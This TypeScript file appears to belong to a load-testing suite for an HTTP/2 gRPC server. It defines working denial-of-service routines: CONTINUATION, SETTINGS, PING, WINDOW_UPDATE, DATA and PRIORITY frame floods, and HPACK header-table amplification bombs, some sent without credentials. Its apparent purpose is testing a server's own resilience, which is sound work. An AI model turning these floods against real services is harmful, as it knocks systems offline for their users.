import { setTimeout as delay } from 'node:timers/promises';
import { FLAG, FRAME, frame, settingsFrame, windowUpdateFrame } from '../../../../bench/load/frames.js';
import { encodeHeaders } from '../../../../bench/load/hpack.js';
import type { Attack } from '../attack.js';
import { beginCall, callHeaders, READ } from '../call-frames.js';
import { flood } from '../flood.js';
import { RawConnection } from '../raw-connection.js';

const PING = frame(FRAME.ping, 0, 0, Buffer.alloc(8));
const SETTINGS = settingsFrame([[4, 65_535]]);
const SIZES = { unit: 'frames', short: 50_000, full: 1_000_000 } as const;

/** Frames that cost their sender nothing. */
export const FRAME_ATTACKS: readonly Attack[] = [
  {
    title: 'CONTINUATION flood',
    unit: 'frames',
    short: 5_000,
    full: 100_000,
    async run(target, size) {
      const field = encodeHeaders([['x', 'y'.repeat(100)]]);
      let stream = 0;
      await flood(target, size, () => frame(FRAME.continuation, 0, stream, field), {
        begin(connection) {
          stream = connection.newStream();
          return frame(FRAME.headers, 0, stream, callHeaders(READ, target.key));
        },
      });
    },
  },
  {
    title: 'SETTINGS flood',
    ...SIZES,
    run: (target, size) => flood(target, size, () => SETTINGS),
  },
  {
    title: 'SETTINGS flood whose answers are not read',
    ...SIZES,
    run: (target, size) => flood(target, size, () => SETTINGS, { unread: true }),
  },
  {
    title: 'PING flood',
    ...SIZES,
    run: (target, size) => flood(target, size, () => PING),
  },
  {
    title: 'PING flood whose answers are not read',
    ...SIZES,
    run: (target, size) => flood(target, size, () => PING, { unread: true }),
  },
  {
    title: 'WINDOW_UPDATE flood',
    ...SIZES,
    run: (target, size) => flood(target, size, () => windowUpdateFrame(1)),
  },
  {
    title: 'flood of empty DATA',
    ...SIZES,
    async run(target, size) {
      let stream = 0;
      await flood(target, size, () => frame(FRAME.data, 0, stream), {
        begin(connection) {
          stream = connection.newStream();
          return beginCall(stream, callHeaders(READ, target.key));
        },
      });
    },
  },
  {
    title: 'PRIORITY flood',
    ...SIZES,
    run: (target, size) =>
      flood(target, size, (connection) => frame(2, 0, connection.newStream(), Buffer.from([0, 0, 0, 0, 9]))),
  },
  {
    title: 'headers that name one large field again and again',
    alsoOverTls: true,
    unit: 'calls',
    short: 2_000,
    full: 20_000,
    async run(target, size) {
      const bomb = Buffer.concat([callHeaders(READ, target.key), nameLargeField(10_000)]);
      await flood(target, size, (connection) => beginCall(connection.newStream(), bomb), { begin: sendLargeField });
    },
  },
  {
    title: 'open calls that name one large field a hundred times, without a credential',
    unit: 'calls',
    short: 1_500,
    full: 15_000,
    async run(target, size) {
      const path = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
      const bomb = Buffer.concat([callHeaders(path), nameLargeField(100)]);
      const connections: RawConnection[] = [];
      for (let begun = 0; begun < size; begun += 100) {
        const connection = await RawConnection.open(target, { deaf: true });
        connections.push(connection);
        await connection.send(sendLargeField(connection));
        const calls = Array.from({ length: 100 }, () => beginCall(connection.newStream(), bomb));
        await connection.send(Buffer.concat(calls));
      }
      await delay(1_000);
      await Promise.all(connections.map((connection) => connection.close()));
    },
  },
];

/** Puts a field of 4 KB into the table of the decoder, in a call that is refused. */
function sendLargeField(connection: RawConnection): Buffer {
  const value = Buffer.alloc(3_900, 'z');
  const field = Buffer.concat([Buffer.of(0x40, 1), Buffer.from('b'), Buffer.of(0x7f, 0xbd, 0x1d), value]);
  const headers = Buffer.concat([callHeaders(READ), field]);
  return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, connection.newStream(), headers);
}

/** Names the field of {@link sendLargeField}, by a byte each time. */
function nameLargeField(times: number): Buffer {
  return Buffer.alloc(times, 0x80 | 62);
}
